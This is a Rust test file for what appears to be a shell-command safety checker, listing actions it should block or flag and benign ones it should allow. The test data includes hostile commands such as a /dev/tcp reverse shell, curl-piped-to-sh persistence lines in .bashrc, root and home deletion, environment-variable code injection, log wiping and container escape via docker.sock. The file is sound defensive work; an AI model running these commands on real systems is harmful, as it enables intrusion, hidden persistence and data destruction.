@@ -1,0 +1,484 @@
+//! The rules beyond the seed's, effect by effect.
+
+mod common;
+
+use aegish_effects::{Act, Opaque, Source, System, Taint, Value};
+use common::*;
+
+#[test]
+fn whole_branches_are_not_deleted() {
+    let rule = "destructive-file-system";
+    check(vec![
+        (delete_tree("/"), rule, "bbb"),
+        (delete_tree("/*"), rule, "bbb"),
+        (delete_tree("//"), rule, "bbb"),
+        (delete_tree("/./"), rule, "bbb"),
+        (delete_tree("/tmp/../"), rule, "bbb"),
+        (delete_tree("/etc"), rule, "bbb"),
+        (delete_tree("/usr/"), rule, "bbb"),
+        (delete_tree("/home"), rule, "bbb"),
+        (delete_tree("/home/*"), rule, "bbb"),
+        (delete_tree("/v?r"), rule, "bbb"),
+        (delete_tree("/home/kim"), rule, "bbb"),
+        (delete_tree("/home/ada"), rule, "bbb"),
+        (delete_tree("/home/‹x›"), rule, "bbb"),
+        (delete_tree("~"), rule, "bbb"),
+        (delete_tree("~/*"), rule, "bbb"),
+        (delete_tree("~/.*"), rule, "bbb"),
+        (delete_tree("/root"), rule, "bbb"),
+        (delete_tree("."), rule, "bbb"),
+        (delete_tree("./"), rule, "bbb"),
+        (delete_tree(".."), rule, "bbb"),
+        (delete_tree("../.."), rule, "bbb"),
+        (delete_tree("/home/kim/src"), rule, "bbb"),
+        (delete_tree("/home/kim/src/app"), rule, "wwb"),
+        (delete_tree("*"), rule, "wwb"),
+        (delete_tree("./*"), rule, "wwb"),
+        (delete_tree("/home/kim/photos"), rule, "www"),
+        (delete_tree("‹x›/"), rule, "wwb"),
+        (delete_tree("‹x›/*"), rule, "wwb"),
+        (delete_tree("‹x›/usr"), rule, "wwb"),
+        (delete_tree("/‹x›"), rule, "wwb"),
+        (delete_tree("‹x›"), rule, "wwb"),
+        (delete("/*"), rule, "bbb"),
+    ]);
+    check_fine(vec![
+        delete_tree("build"),
+        delete_tree("./node_modules"),
+        delete_tree("/home/kim/src/app/target"),
+        delete_tree("dist/*"),
+        delete_tree("‹x›/build"),
+        delete_tree("/tmp/work"),
+        delete_tree("/tmp/work/*"),
+        delete_tree("/tmp/‹x›"),
+        delete_tree("/home/kim/.cache"),
+        delete_tree("/home/kim/.cache/pip"),
+        delete_tree("/home/kim/.npm"),
+        delete_tree("/home/kim/.cargo/registry"),
+        delete_tree("/home/kim/src/other/target"),
+        Act::Delete {
+            path: Value::unknown("mktemp").tainted(&from(Source::Program("mktemp".to_owned()))),
+            tree: true,
+        },
+        delete("‹x›"),
+        delete("*.o"),
+        delete("/home/kim/notes.txt"),
+        delete("‹x›/*.tmp"),
+    ]);
+}
+
+#[test]
+fn disks_and_system_trees_stay_as_they_are() {
+    let rule = "destructive-file-system";
+    check(vec![
+        (write("/dev/sda"), rule, "bbb"),
+        (write("/dev/nvme0n1p2"), rule, "bbb"),
+        (system(System::Destroy, "formats", "/dev/sdb1"), rule, "bbb"),
+        (system(System::Destroy, "formats", "‹x›"), rule, "bbb"),
+        (
+            system(System::Destroy, "destroys a pool", "tank"),
+            rule,
+            "bbb",
+        ),
+        (system(System::Destroy, "formats", "disk.img"), rule, "waw"),
+        (
+            system(System::Destroy, "overwrites", "/tmp/old.key"),
+            rule,
+            "waw",
+        ),
+        (mode_tree("777", "/"), rule, "bbb"),
+        (mode_tree("000", "/usr"), rule, "bbb"),
+        (mode_tree("755", "/etc/ssh"), rule, "bbb"),
+        (owner_tree("kim", "/usr"), "6", "bbb"),
+        (owner_tree("kim:kim", "/"), rule, "bbb"),
+        (owner_tree("kim", "/var"), rule, "bbb"),
+    ]);
+    check_fine(vec![
+        write("/dev/null"),
+        write("/dev/stderr"),
+        write("/dev/fd/3"),
+        mode_tree("755", "public"),
+        owner_tree("kim", "/home/kim/.npm"),
+        system(System::Destroy, "overwrites", "/dev/null"),
+    ]);
+}
+
+#[test]
+fn disguise_is_judged_by_what_is_known_of_it() {
+    check(vec![
+        (
+            Act::Disguised {
+                how: "base64",
+                code: v("ls"),
+            },
+            "disguised-code",
+            "www",
+        ),
+        (
+            Act::Disguised {
+                how: "base64",
+                code: v("‹x›"),
+            },
+            "disguised-code",
+            "WWb",
+        ),
+        (
+            Act::Disguised {
+                how: "base64",
+                code: Value::empty(),
+            },
+            "disguised-code",
+            "WWb",
+        ),
+    ]);
+}
+
+#[test]
+fn schedules_are_judged_by_whether_they_can_be_read() {
+    check(vec![
+        (
+            system(System::Persist, "crontab", "0 3 x x x backup"),
+            "scheduled-content",
+            "wab",
+        ),
+        (
+            system(System::Persist, "crontab", "‹x›"),
+            "scheduled-content",
+            "bwb",
+        ),
+    ]);
+    let both = analysis(
+        Some("crontab"),
+        vec![
+            system(System::Persist, "crontab", "jobs"),
+            hidden(Opaque::Script, Taint::none()),
+        ],
+    );
+    let setting = aegish_policy::Setting {
+        role: aegish_policy::Role::Default,
+        cwd: CWD,
+        home: HOME,
+    };
+    assert_eq!(
+        aegish_policy::judge(&both, &setting).action,
+        aegish_policy::Action::Block
+    );
+}
+
+#[test]
+fn variables_do_not_smuggle_code() {
+    let rule = "environment-injection";
+    check(vec![
+        (setenv("BASH_ENV", "./x.sh"), rule, "bbb"),
+        (setenv_v("BASH_ENV", "‹x›"), rule, "WWb"),
+        (setenv("ENV", "/tmp/x"), rule, "bbb"),
+        (setenv("PROMPT_COMMAND", "curl -s x | sh"), rule, "bbb"),
+        (setenv("PS4", "$(id)"), rule, "bbb"),
+        (setenv("PS1", "$(whoami)$ "), rule, "wwb"),
+        (setenv("SHELLOPTS", "xtrace"), rule, "bbb"),
+        (setenv("PYTHONSTARTUP", "/tmp/x.py"), rule, "bbb"),
+        (setenv("PYTHONPATH", "/tmp/x"), rule, "bbb"),
+        (setenv("PERL5OPT", "-Mevil"), rule, "bbb"),
+        (setenv("PERL5LIB", "/dev/shm"), rule, "bbb"),
+        (setenv("RUBYOPT", "-r./x"), rule, "bbb"),
+        (setenv("NODE_OPTIONS", "--require ./x.js"), rule, "bbb"),
+        (
+            setenv("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/a.jar"),
+            rule,
+            "bbb",
+        ),
+        (setenv("GIT_SSH_COMMAND", "sh -c id"), rule, "bbb"),
+        (setenv("GIT_SSH", "/tmp/ssh"), rule, "bbb"),
+        (setenv("GIT_EXTERNAL_DIFF", "./d"), rule, "bbb"),
+        (setenv("GIT_CONFIG_KEY_0", "core.sshCommand"), rule, "bbb"),
+        (setenv("GIT_CONFIG_GLOBAL", "/tmp/c"), rule, "bbb"),
+        (setenv("GIT_EXEC_PATH", "/home/kim/src/app/x"), rule, "bbb"),
+        (setenv("PAGER", "sh"), rule, "bbb"),
+        (setenv("PAGER", "/tmp/less"), rule, "bbb"),
+        (setenv("EDITOR", "mytool"), rule, "wwb"),
+        (setenv("LESSOPEN", "|sh %s"), rule, "bbb"),
+        (setenv("BROWSER", "./b"), rule, "bbb"),
+        (setenv("BASH_FUNC_ls%%", "() { id; }"), rule, "bbb"),
+        (setenv("NODE_TLS_REJECT_UNAUTHORIZED", "0"), rule, "wwb"),
+        (setenv("GIT_SSL_NO_VERIFY", "true"), rule, "wwb"),
+    ]);
+    check_fine(vec![
+        setenv("EDITOR", "vim"),
+        setenv("VISUAL", "code --wait"),
+        setenv("PAGER", "less -R"),
+        setenv("PAGER", "cat"),
+        setenv("GIT_PAGER", ""),
+        setenv("GIT_SSH_COMMAND", "ssh -i /home/kim/.ssh/work"),
+        setenv("MANPAGER", "less"),
+        setenv("PYTHONPATH", "src"),
+        setenv_v("PYTHONPATH", ".:‹x›"),
+        setenv("NODE_OPTIONS", "--max-old-space-size=4096"),
+        setenv("NODE_ENV", "production"),
+        setenv("ENV", "staging"),
+        setenv("RUBYOPT", "-W0"),
+        setenv("PS1", "\\u@\\h:\\w\\$ "),
+        setenv("PROMPT_COMMAND", "history -a"),
+        setenv("IFS", ","),
+        setenv("TMPDIR", "/tmp/x"),
+        setenv("RUST_LOG", "debug"),
+        setenv("GIT_CONFIG_KEY_0", "safe.directory"),
+        setenv("GIT_CONFIG_GLOBAL", "/dev/null"),
+        setenv("HISTCONTROL", "ignoreboth"),
+        setenv("JAVA_TOOL_OPTIONS", "-Xmx2g"),
+        setenv("MAKEFLAGS", "-j8"),
+        Act::Setenv {
+            name: "EDITOR".to_owned(),
+            value: Value::unknown("variable")
+                .tainted(&from(Source::Environment("VISUAL".to_owned()))),
+        },
+    ]);
+}
+
+#[test]
+fn the_search_path_begins_with_trusted_directories() {
+    let rule = "path-change";
+    check(vec![
+        (setenv_v("PATH", ".:‹PATH›"), rule, "bbb"),
+        (setenv_v("PATH", ":‹PATH›"), rule, "bbb"),
+        (setenv_v("PATH", "/tmp/x:‹PATH›"), rule, "bbb"),
+        (setenv_v("PATH", "/dev/shm:‹PATH›"), rule, "bbb"),
+        (setenv("PATH", "/tmp"), rule, "bbb"),
+        (setenv_v("PATH", "tools:‹PATH›"), rule, "wwb"),
+        (setenv_v("PATH", "‹PATH›:."), rule, "wwb"),
+        (setenv("PATH", "/usr/bin:/bin:."), rule, "wwb"),
+    ]);
+    check_fine(vec![
+        setenv_v("PATH", "/home/kim/.cargo/bin:‹PATH›"),
+        setenv_v("PATH", "/opt/x/bin:‹PATH›"),
+        setenv_v("PATH", "./node_modules/.bin:‹PATH›"),
+        setenv_v("PATH", "/home/kim/src/app/node_modules/.bin:‹PATH›"),
+        setenv_v("PATH", "‹GOPATH›/bin:‹PATH›"),
+        setenv_v("PATH", "‹PATH›:/usr/local/go/bin"),
+        setenv("PATH", "/usr/local/bin:/usr/bin:/bin"),
+        setenv_v("PATH", "‹PATH›:"),
+    ]);
+}
+
+#[test]
+fn well_known_names_keep_their_meaning() {
+    let rule = "command-shadowing";
+    check(vec![
+        (shadow("ls", "/tmp/x"), rule, "bbb"),
+        (shadow("anything", "/dev/shm/x"), rule, "bbb"),
+        (shadow("sudo", "tee -a log"), rule, "bbb"),
+        (shadow("ssh", "ssh -o ProxyCommand=x"), rule, "bbb"),
+        (shadow("passwd", ""), rule, "bbb"),
+        (shadow("ls", "ls; id"), rule, "wwb"),
+        (shadow("cd", "builtin cd \"$@\" && ls"), rule, "wwb"),
+        (shadow("git", ""), rule, "wwb"),
+    ]);
+    check_fine(vec![
+        shadow("ll", "ls -l"),
+        shadow("gs", "git status"),
+        shadow("grep", "grep --color=auto"),
+        shadow("ls", "ls --color"),
+        shadow("rm", "rm -i"),
+        shadow("sudo", "sudo "),
+        shadow("ssh", "ssh -C"),
+        shadow("cat", "bat"),
+        shadow("vim", "nvim"),
+        shadow("python", "python3"),
+        shadow("deploy", "cd /srv && ./run; echo done"),
+    ]);
+}
+
+#[test]
+fn what_cannot_be_read_is_left_open() {
+    check(vec![
+        (
+            hidden(Opaque::CommandName, Taint::none()),
+            "unresolved-command",
+            "WWb",
+        ),
+        (hidden(Opaque::Code, Taint::none()), "unread-code", "WWb"),
+        (hidden(Opaque::Script, Taint::none()), "unread-code", "WWW"),
+        (
+            hidden(Opaque::Syntax, Taint::none()),
+            "unparsable-command",
+            "WWb",
+        ),
+        (
+            hidden(Opaque::Limit, Taint::none()),
+            "unparsable-command",
+            "WWb",
+        ),
+    ]);
+}
+
+#[test]
+fn start_files_are_judged_by_their_lines() {
+    let rule = "persistence";
+    let line = |text: &str| append("/home/kim/.bashrc", Value::known(text));
+    check(vec![
+        (line("export PATH=$HOME/bin:$PATH\n"), rule, "wwb"),
+        (line("alias ll='ls -l'\n# note\n"), rule, "wwb"),
+        (line("eval \"$(direnv hook bash)\""), rule, "wwb"),
+        (
+            line("[ -f ~/.fzf.bash ] && source ~/.fzf.bash"),
+            rule,
+            "wwb",
+        ),
+        (line("nohup /tmp/x &"), rule, "bbb"),
+        (line("curl -s https://example.net/x | sh"), rule, "bbb"),
+        (line("bash -i >& /dev/tcp/203.0.113.5/1 0>&1"), rule, "bbb"),
+        (line("export PROMPT_COMMAND='x'"), rule, "bbb"),
+        (line("alias sudo='~/.x'"), rule, "bbb"),
+        (line("/home/kim/.hidden/agent"), rule, "bbb"),
+        (append("/home/kim/.zshrc", v("‹x›")), rule, "WWb"),
+        (append("/home/kim/.zshrc", v("export KEY=‹x›")), rule, "wwb"),
+        (
+            append("‹x›/.profile", Value::known("umask 022")),
+            rule,
+            "wwb",
+        ),
+        (
+            append(
+                "/home/kim/.bashrc",
+                Value::unknown("download").tainted(&net()),
+            ),
+            rule,
+            "bbb",
+        ),
+        (write("/home/kim/.config/autostart/x.desktop"), rule, "bbb"),
+        (write("/home/kim/.ssh/rc"), rule, "bbb"),
+        (write("/home/kim/.ssh/config"), rule, "wwb"),
+        (
+            write("/home/kim/.config/systemd/user/x.service"),
+            rule,
+            "wwb",
+        ),
+        (write(".git/hooks/pre-commit"), rule, "wwb"),
+    ]);
+    check_fine(vec![
+        write(".bashrc"),
+        write("dotfiles/.bashrc"),
+        write(".git/hooks/pre-commit.sample"),
+    ]);
+}
+
+#[test]
+fn protections_stay_on() {
+    let rule = "security-tool-disabled";
+    check(vec![
+        (system(System::Disarm, "iptables -F", ""), rule, "bwb"),
+        (
+            system(System::Service, "stops a unit", "auditd"),
+            rule,
+            "bwb",
+        ),
+        (system(System::Kill, "by name", "falco"), rule, "bbb"),
+        (write("/etc/selinux/config"), "5", "bwb"),
+        (write("/etc/aegish/config"), "5", "bwb"),
+        (write("/home/kim/.config/aegish/policy.toml"), rule, "bwb"),
+        (delete("/var/log/auth.log"), rule, "bbb"),
+        (delete_tree("/var/log/audit"), rule, "bbb"),
+        (write("/var/log/syslog"), rule, "wab"),
+        (delete("/home/kim/.bash_history"), rule, "wwb"),
+        (link("/home/kim/.bash_history", "/dev/null"), rule, "wwb"),
+        (setenv("HISTFILE", "/dev/null"), rule, "wwb"),
+        (setenv("HISTSIZE", "0"), rule, "wwb"),
+    ]);
+    check_fine(vec![
+        append("/var/log/app.log", Value::known("x")),
+        setenv("HISTSIZE", "10000"),
+        setenv("HISTFILE", "/home/kim/.history_work"),
+    ]);
+}
+
+#[test]
+fn deeds_on_the_system_follow_the_role() {
+    check(vec![
+        (
+            system(System::Exhaust, "fork bomb", ""),
+            "resource-exhaustion",
+            "bbb",
+        ),
+        (
+            system(System::Escape, "--privileged", ""),
+            "container-escape",
+            "bbb",
+        ),
+        (read("/var/run/docker.sock"), "container-escape", "bbb"),
+        (
+            system(System::Kernel, "loads a module", "x.ko"),
+            "kernel-interface",
+            "bwb",
+        ),
+        (
+            write("/proc/sys/kernel/core_pattern"),
+            "kernel-interface",
+            "bwb",
+        ),
+        (
+            write("/sys/fs/cgroup/x/release_agent"),
+            "kernel-interface",
+            "bwb",
+        ),
+        (
+            system(System::Inspect, "attaches", "4242"),
+            "process-inspection",
+            "bwb",
+        ),
+        (
+            system(System::Inspect, "own program", "./app"),
+            "process-inspection",
+            "aaa",
+        ),
+        (
+            system(System::Discard, "git reset --hard", ""),
+            "work-loss",
+            "www",
+        ),
+        (
+            system(System::Service, "restarts a unit", "nginx"),
+            "service-change",
+            "wab",
+        ),
+        (system(System::Power, "reboot", ""), "power-change", "wwb"),
+        (
+            system(System::Kill, "by number", "4242"),
+            "process-kill",
+            "aaw",
+        ),
+        (
+            system(System::Kill, "by number", "-1"),
+            "process-kill",
+            "bbb",
+        ),
+        (
+            system(System::Kill, "by name", "init"),
+            "process-kill",
+            "bbb",
+        ),
+        (
+            system(System::Remote, "deletes a namespace", "shop"),
+            "remote-destruction",
+            "wwb",
+        ),
+        (
+            system(System::Account, "adds an account", "ada"),
+            "account-change",
+            "wab",
+        ),
+        (
+            system(System::Install, "apt install", "nginx"),
+            "package-install",
+            "wab",
+        ),
+        (
+            system(System::Install, "npm ci", ""),
+            "package-install",
+            "aab",
+        ),
+        (
+            system(System::Network, "adds a route", ""),
+            "network-change",
+            "wab",
+        ),
+    ]);
+}
